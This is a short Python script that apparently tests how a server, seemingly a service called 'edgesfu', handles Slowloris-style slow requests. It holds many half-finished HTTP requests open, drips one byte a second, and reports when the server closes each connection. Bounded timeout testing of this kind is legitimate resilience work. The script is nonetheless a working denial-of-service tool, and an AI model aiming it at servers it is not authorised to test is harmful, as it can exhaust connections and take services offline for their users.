#!/usr/bin/python3
"""Slowloris: N TCP connections that send the start of an HTTP request and
then one more header byte a second, never finishing it. Reports, for each
connection, whether and when the server closed it. Bounded: everything ends
after HOLD seconds.

    slowloris.py HOST PORT SOURCE_IP N HOLD

Prints one JSON object: {"opened", "refused", "closed", "close_s": [...]}
(close_s: seconds from connect to the server's close, per closed connection).
"""
import json
import select
import socket
import sys
import time


def main():
    host, port, source, n, hold = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
    start = time.monotonic()
    conns = {}
    refused = 0
    for _ in range(n):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.bind((source, 0))
            s.connect((host, port))
            s.sendall(b"POST /whip/slow HTTP/1.1\r\nHost: edgesfu\r\n")
        except OSError:
            refused += 1
            s.close()
            continue
        s.setblocking(False)
        conns[s] = time.monotonic()
    closed = []
    last_drip = time.monotonic()
    while conns and time.monotonic() - start < hold:
        r, _, _ = select.select(list(conns), [], [], 0.2)
        for s in r:
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:  # closed (or reset) by the server
                closed.append(round(time.monotonic() - conns.pop(s), 2))
                s.close()
        if time.monotonic() - last_drip >= 1.0:
            last_drip = time.monotonic()
            for s in list(conns):
                try:
                    s.send(b"X")
                except OSError:
                    closed.append(round(time.monotonic() - conns.pop(s), 2))
                    s.close()
    for s in conns:
        s.close()
    print(json.dumps({"opened": n - refused, "refused": refused, "closed": len(closed),
                      "close_s": sorted(closed)}))


if __name__ == "__main__":
    main()
